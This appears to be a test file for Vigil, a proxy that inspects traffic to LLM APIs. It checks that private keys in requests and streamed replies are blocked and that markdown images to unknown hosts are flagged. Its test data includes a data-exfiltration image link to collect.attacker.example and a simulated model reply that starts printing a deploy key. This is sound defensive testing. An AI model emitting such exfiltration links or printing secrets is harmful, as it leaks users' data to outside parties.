import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { proxyClient, startHarness, type Harness } from './testing/harness.ts';

// Enforcement on the wire, below the SDKs: raw requests through the proxy with the real pipeline.
let h: Harness;
let client: ReturnType<typeof proxyClient>;
before(async () => {
  h = await startHarness({ pipeline: {} });
  client = proxyClient(h);
});
after(async () => {
  await client.agent.close();
  await h.close();
});

const post: ReturnType<typeof proxyClient>['post'] = (...args) => client.post(...args);

type Decision = { phase: string; decision: { effect: string; policyIds: string[] } };
const decisions = (from: number) => h.audit.ofType('interaction.decision').slice(from).map((r) => r.body as unknown as Decision);

async function waitForDecision(from: number, phase: string): Promise<Decision> {
  const until = Date.now() + 5000;
  for (;;) {
    const d = decisions(from).find((x) => x.phase === phase);
    if (d) return d;
    if (Date.now() > until) throw new Error(`no ${phase} decision`);
    await new Promise((r) => setTimeout(r, 10));
  }
}

test('a body no adapter can read is still checked as text: a private key in it is blocked, anything else passes byte for byte', async () => {
  const seen = h.fake.received.length;
  const res = await post('https://api.openai.com/v1/chat/completions', '{"model": "m", "messages": [oops -----BEGIN RSA PRIVATE KEY-----\nMIIEow');
  assert.equal(res.statusCode, 403);
  assert.match(((await res.body.json()) as { error: { message: string } }).error.message, /Blocked by Vigil: contains a credential or private key/);
  assert.equal(h.fake.received.length, seen);
  const raw = '{"model": "m", "messages": [oops';
  const ok = await post('https://api.openai.com/v1/chat/completions', raw);
  await ok.body.text();
  assert.equal(h.fake.received.at(-1)?.body.toString(), raw);
});

test('an allowed reply to an agent is held whole, then delivered unchanged with its own length', async () => {
  const body = { model: 'm', messages: [{ role: 'user', content: 'weather in Paris?' }], tools: [{ type: 'function', function: { name: 'get_weather' } }] };
  const res = await post('https://api.openai.com/v1/chat/completions', body);
  assert.equal(res.statusCode, 200);
  const text = await res.body.text();
  assert.equal(Number(res.headers['content-length']), Buffer.byteLength(text));
  assert.equal((JSON.parse(text) as { choices: { message: { tool_calls: { function: { name: string } }[] } }[] }).choices[0]?.message.tool_calls[0]?.function.name, 'get_weather');
});

test('anthropic: a stream that starts printing a private key is cut with an `event: error` in Anthropic’s shape', async () => {
  const text = ['Sure, here it is:\n', '-----BEGIN OPENSSH PRIVATE KEY-----\n', 'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n', '-----END OPENSSH PRIVATE KEY-----\n', 'Anything else?'];
  const res = await post('https://api.anthropic.com/v1/messages', { model: 'c', max_tokens: 10, stream: true, messages: [{ role: 'user', content: 'print the deploy key' }] }, { 'x-fake-text': JSON.stringify(text) });
  const body = await res.body.text();
  assert.match(body, /event: error\ndata: \{"type":"error","error":\{"type":"permission_error","message":"Blocked by Vigil: contains a credential or private key/);
  assert.doesNotMatch(body, /Anything else|message_stop/);
  assert.ok(body.trimEnd().endsWith('}'), 'the error event is the last thing sent');
});

test('a markdown image to an unknown host in the answer passes with a warning recorded for the response', async () => {
  const d0 = h.audit.ofType('interaction.decision').length;
  const text = ['Done. ', '![chart](https://collect.attacker.example/c.png?d=cXVhcnRlcmx5)'];
  const res = await post('https://api.openai.com/v1/chat/completions', { model: 'm', stream: true, messages: [{ role: 'user', content: 'chart it' }] }, { 'x-fake-text': JSON.stringify(text) });
  assert.match(await res.body.text(), /collect\.attacker\.example/);
  const d = await waitForDecision(d0, 'response');
  assert.equal(d.decision.effect, 'warn');
  assert.ok(d.decision.policyIds.includes('exfil.warn-image'));
});
